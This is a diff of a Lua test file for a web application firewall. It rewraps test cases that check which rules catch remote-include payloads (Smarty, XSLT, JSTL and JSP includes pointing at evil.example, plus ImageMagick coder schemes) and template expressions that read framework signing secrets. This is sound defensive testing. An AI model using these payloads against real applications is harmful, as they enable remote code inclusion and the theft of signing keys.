@@ -62,18 +62,19 @@ describe("edge.waf.rules hundred-and-eighty-third round on", function()
 
     it("remote includes by template and markup: Smarty's include of a URL, XSLT, JSTL, JSP; ImageMagick's coders",
         function()
-        caught_by(134110, { "{include file='http://203.0.113.80/t.tpl'}", '{include file="https://evil.example/t.tpl"}' })
-        caught_by(131260, { '<xsl:import href="https://evil.example/x.xsl"/>', "<c:import url='http://evil.example/x'/>",
-            '<jsp:include page="http://evil.example/x.jsp"/>', "url:http://evil.example/x.svg", "msl:/tmp/x.msl",
-            "ephemeral:/var/www/x" })
+        caught_by(134110, { "{include file='http://203.0.113.80/t.tpl'}",
+            '{include file="https://evil.example/t.tpl"}' })
+        caught_by(131260, { '<xsl:import href="https://evil.example/x.xsl"/>',
+            "<c:import url='http://evil.example/x'/>", '<jsp:include page="http://evil.example/x.jsp"/>',
+            "url:http://evil.example/x.svg", "msl:/tmp/x.msl", "ephemeral:/var/www/x" })
         clean({ '{include file="header.tpl"}', '<xsl:import href="common.xsl"/>', "url: https://example.com",
             "ephemeral: true", "the url:port form" })
     end)
 
     it("a web framework's signing secret read by code, in an interpolation or a template", function()
         caught_by(136140, { "#{Rails.application.credentials.secret_key_base}",
-            "Rails.application.secrets.secret_key_base", "{{ settings.SECRET_KEY }}", "{{ current_app.config['SECRET_KEY'] }}",
-            "{{ config('app.key') }}" })
+            "Rails.application.secrets.secret_key_base", "{{ settings.SECRET_KEY }}",
+            "{{ current_app.config['SECRET_KEY'] }}", "{{ config('app.key') }}" })
         clean({ "our Rails application is slow", "the secret key rotation is Friday", "app settings page" })
     end)
 
